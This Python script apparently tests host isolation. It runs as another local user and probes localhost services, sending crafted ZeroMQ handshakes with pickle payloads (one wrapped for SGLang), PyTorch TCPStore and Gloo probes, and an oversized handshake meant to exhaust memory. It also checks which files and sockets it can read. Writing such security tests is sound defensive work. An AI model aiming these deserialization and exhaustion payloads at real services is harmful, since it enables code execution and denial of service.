"""Attacks by another user of the host.

Root starts it, and it becomes that user after its imports, since that user may not be able to read
Python's files. It reads a job, and prints as JSON what it could do.
"""

import concurrent.futures.thread
import contextlib
import encodings.idna  # noqa: F401  needed to connect, and Python would import it then
import json
import os
import pickle
import socket
import struct
import sys

CONNECT_S = 1.0
ANSWER_S = 1.0
LONG_S = 10.0
GREETING = 64  # bytes of ZeroMQ's greeting
# TCPStore: validate, magic; ask for the number of keys
TORCH_STORE = struct.pack("<BI", 0, 0x3C85F7CE) + struct.pack("<B", 7)
GLOO = struct.pack("<q", 0)  # says: I am connection 0
STREAMED = bytes(64 << 20)


def greeting(mechanism: bytes) -> bytes:
    return b"\xff" + bytes(8) + b"\x7f\x03\x00" + mechanism.ljust(20, b"\0") + bytes(32)


def command(name: bytes, body: bytes) -> bytes:
    return struct.pack("BB", 4, 1 + len(name) + len(body)) + bytes([len(name)]) + name + body


class Creates:
    """Creates a file when it is unpickled."""

    def __init__(self, path: str):
        self.path = path

    def __reduce__(self):
        return open, (self.path, "w")


def exchange(port: int, *sent: bytes, answer_s: float = ANSWER_S) -> bytes:
    """The answer; None if the connection fails."""
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=CONNECT_S) as connection:
            connection.settimeout(answer_s)
            received = b""
            try:
                for message in sent:
                    connection.sendall(message)
                    with contextlib.suppress(TimeoutError):  # not every message needs an answer
                        received += connection.recv(4096)
            except OSError:
                pass
            return received
    except OSError:
        return None


def mechanism(port: int) -> str:
    """The security mechanism of a ZeroMQ socket; empty if it is no such socket.

    The socket's greeting names it before the client authenticates.
    """
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=CONNECT_S) as connection:
            connection.settimeout(LONG_S)
            connection.sendall(greeting(b"")[:12])
            received = b""
            while len(received) < GREETING and (received_bytes := connection.recv(GREETING)):
                received += received_bytes
    except OSError:
        return ""
    return (
        received[12:32].rstrip(b"\0").decode(errors="replace")
        if received.startswith(b"\xff")
        else ""
    )


def zmq_message(body: bytes) -> bytes:
    return b"\x02" + struct.pack(">Q", len(body)) + body


def try_port(port: int, marker: str) -> dict:
    ready = command(
        b"READY",
        b"\x0bSocket-Type"
        + struct.pack(">I", 4)
        + b"PUSH"
        + b"\x08Identity"
        + struct.pack(">I", 0),
    )
    payload = zmq_message(pickle.dumps(Creates(f"{marker}.{port}")))
    pickled = pickle.dumps(Creates(marker))
    # with SGLANG_USE_PICKLE_IPC off
    wrapped = zmq_message(
        b"\x82\xa4type\xadPickleWrapper\xa4data\xc4" + bytes([len(pickled)]) + pickled
    )
    result = {"port": port, "open": exchange(port) is not None}
    if result["open"]:
        result["zmq"] = mechanism(port)
        exchange(port, greeting(b"NULL"), ready, payload, wrapped)
        exchange(port, pickle.dumps(Creates(f"{marker}.{port}")))
        request = b"GET /server_info HTTP/1.1\r\nHost: localhost\r\n\r\n"
        http = exchange(port, request, answer_s=ANSWER_S if result["zmq"] else LONG_S)
        result["http"] = (
            http.split(b" ")[1].decode(errors="replace") if http.startswith(b"HTTP/") else ""
        )
        result["store"] = exchange(port, TORCH_STORE).hex()
        exchange(port, GLOO, os.urandom(1 << 16))
        # the beginning of a handshake of 8 GiB
        exchange(port, greeting(b"CURVE"), b"\x06" + struct.pack(">Q", 1 << 33), STREAMED)
    return result


def can(path: str) -> bool:
    try:
        if os.path.isdir(path):
            os.listdir(path)
        else:
            with open(path, "rb") as file:
                file.read(1)
        return True
    except OSError:
        return False


def can_connect(path: str) -> bool:
    with socket.socket(socket.AF_UNIX) as client:
        client.settimeout(CONNECT_S)
        try:
            client.connect(path)
            return True
        except OSError:
            return False


def main(job: dict) -> dict:
    os.setgroups([])
    os.setresgid(job["user"], job["user"], job["user"])
    os.setresuid(job["user"], job["user"], job["user"])
    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        ports = list(pool.map(lambda port: try_port(port, job["marker"]), job["ports"]))
    readable = [path for path in job["files"] if can(path)]
    sockets = [path for path in job["sockets"] if can_connect(path)]
    return {"user": os.getuid(), "ports": ports, "readable": readable, "sockets": sockets}


print(json.dumps(main(json.loads(sys.stdin.read()))))
